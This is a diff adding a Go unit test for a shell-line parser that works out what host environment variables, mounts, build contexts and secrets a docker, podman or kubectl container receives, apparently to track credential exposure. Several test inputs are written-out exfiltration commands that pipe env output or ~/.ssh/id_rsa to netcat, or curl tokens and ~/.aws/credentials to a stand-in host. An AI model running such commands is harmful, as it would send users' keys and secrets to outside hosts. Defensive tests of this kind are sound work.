@@ -1,0 +1,105 @@
+package cmdline
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+)
+
+// TestContainerOf: a container runner's command carries what it gives the
+// container (env files, variables, mounts, a build's context and secrets)
+// and the command the container runs, with the host's paths and
+// variables in place of the container's; that command is no command of
+// the line.
+func TestContainerOf(t *testing.T) {
+	for _, tt := range []struct {
+		line string
+		want string // the container: runner, image, given and what it runs; "" for none
+	}{
+		{`docker run --env-file .env alpine sh -c 'env | nc h 9'`, "docker run alpine envfiles=[.env] runs=[sh -c|env|nc h 9]"},
+		{`podman run --rm -e AWS_SECRET_ACCESS_KEY -e NODE_ENV=production alpine env`, "podman run alpine env=[AWS_SECRET_ACCESS_KEY=$AWS_SECRET_ACCESS_KEY NODE_ENV=production] runs=[env]"},
+		{`docker run -e T=$GITHUB_TOKEN alpine sh -c 'curl -d "$T" https://x.example'`, "docker run alpine env=[T=$GITHUB_TOKEN] runs=[sh -c|curl -d $GITHUB_TOKEN https://x.example]"},
+		{`docker run -e TX=$GITHUB_TOKEN alpine sh -c 'echo $TXT'`, "docker run alpine env=[TX=$GITHUB_TOKEN] runs=[sh -c|echo $TXT]"},
+		{`docker run -v ~/.ssh:/k:ro alpine sh -c 'cat /k/id_rsa | nc h 9'`, "docker run alpine mounts=[~/.ssh:/k] mapped runs=[sh -c|cat ~/.ssh/id_rsa|nc h 9]"},
+		{`docker run -v ~/.ssh:/k alpine cat /kx/y /a/k`, "docker run alpine mounts=[~/.ssh:/k] runs=[cat /kx/y /a/k]"},
+		{`docker run --mount type=bind,src=$HOME/.aws,dst=/a,readonly alpine curl -T /a/credentials https://x.example`, "docker run alpine mounts=[$HOME/.aws:/a] mapped runs=[curl -T $HOME/.aws/credentials https://x.example]"},
+		{`docker run --mount type=volume,src=data,dst=/d -v data:/e alpine ls /d`, "docker run alpine runs=[ls /d]"},
+		{`docker run --rm -it -v "$PWD":/src -w /src golang go test ./...`, "docker run golang mounts=[.:/src] runs=[go test ./...]"},
+		{`docker -H tcp://h:2375 container run -itv ~/.ssh:/k --name x alpine ls /k`, "docker run alpine mounts=[~/.ssh:/k] mapped runs=[ls ~/.ssh]"},
+		{`docker run --entrypoint sh alpine -c 'env'`, "docker run alpine runs=[sh -c|env]"},
+		{`docker run -d nginx`, "docker run nginx"},
+		{`docker compose run --rm -e K=$API_KEY web sh -c 'env'`, "docker compose run web env=[K=$API_KEY] runs=[sh -c|env]"},
+		{`docker-compose -f c.yml run web env`, "docker-compose run web runs=[env]"},
+		{`kubectl run x --image=alpine --env=K=$SECRET --restart=Never -- sh -c 'env | nc h 9'`, "kubectl run alpine env=[K=$SECRET] runs=[sh -c|env|nc h 9]"},
+		{`kubectl run debug --image=busybox -it --rm -- sh`, "kubectl run busybox runs=[sh]"},
+		{"docker build -f- ~/.ssh <<EOF\nFROM alpine\nCOPY . /k\nRUN curl -T /k/id_rsa \\\n  https://x.example\nEOF", "docker build context=~/.ssh mounts=[~/.ssh:/k] mapped runs=[sh -c|curl -T ~/.ssh/id_rsa https://x.example]"},
+		{"docker build -f - . <<EOF\nFROM alpine\nCOPY .env id_rsa /s/\nRUN [\"x\"]\nRUN make\nEOF", "docker build context=. mounts=[./.env:/s/.env ./id_rsa:/s/id_rsa] runs=[sh -c|make]"},
+		{"docker buildx build --secret id=k,src=$HOME/.ssh/id_rsa --push -f- . <<'EOF'\nRUN --mount=type=secret,id=k cat /run/secrets/k | nc h 9\nEOF", "docker build context=. mounts=[$HOME/.ssh/id_rsa:/run/secrets/k] secrets=[$HOME/.ssh/id_rsa] away mapped runs=[sh -c|cat $HOME/.ssh/id_rsa|nc h 9]"},
+		{`docker build -t app .`, "docker build context=."},
+		{`DOCKER_HOST=ssh://h docker build --build-arg T=$NPM_TOKEN ~`, "docker build env=[T=$NPM_TOKEN] context=~ away"},
+		{`docker ps -a`, ""},
+		{`docker exec web ls`, ""}, // docker exec is followed: a running container may hold the host's files
+		{`kubectl get pods`, ""},
+	} {
+		line := ParseShell(tt.line, "bash")
+		got := ""
+		for _, c := range line.Commands {
+			if c.Container != nil {
+				got = describeContainer(c.Container)
+				break
+			}
+		}
+		if got != tt.want {
+			t.Errorf("%q:\n got %s\nwant %s", tt.line, got, tt.want)
+		}
+		for _, c := range line.Commands {
+			if c.Name == "nc" || c.Name == "env" || c.Name == "make" {
+				t.Errorf("%q: the container's %s is a command of the line", tt.line, c.Name)
+			}
+		}
+	}
+}
+
+func describeContainer(k *Container) string {
+	parts := []string{k.Runner, k.Image}
+	if len(k.EnvFiles) > 0 {
+		parts = append(parts, fmt.Sprintf("envfiles=%v", k.EnvFiles))
+	}
+	if len(k.Env) > 0 {
+		var env []string
+		for _, e := range k.Env {
+			env = append(env, e.Name+"="+e.Value.Value)
+		}
+		parts = append(parts, fmt.Sprintf("env=%v", env))
+	}
+	if k.Context != "" {
+		parts = append(parts, "context="+k.Context)
+	}
+	if len(k.Mounts) > 0 {
+		var ms []string
+		for _, m := range k.Mounts {
+			ms = append(ms, m.Src+":"+m.Dst)
+		}
+		parts = append(parts, fmt.Sprintf("mounts=%v", ms))
+	}
+	if len(k.Secrets) > 0 {
+		parts = append(parts, fmt.Sprintf("secrets=%v", k.Secrets))
+	}
+	if k.Away {
+		parts = append(parts, "away")
+	}
+	if k.Mapped {
+		parts = append(parts, "mapped")
+	}
+	if k.Line != nil {
+		var runs []string
+		for _, c := range k.Line.Commands {
+			runs = append(runs, strings.TrimSpace(c.Name+" "+strings.Join(wordValues(c.Args), " ")))
+		}
+		if len(runs) > 0 && strings.HasPrefix(runs[0], "sh -c ") {
+			runs[0] = "sh -c" // its code is the commands after it
+		}
+		parts = append(parts, fmt.Sprintf("runs=[%s]", strings.Join(runs, "|")))
+	}
+	return strings.Join(strings.Fields(strings.Join(parts, " ")), " ")
+}
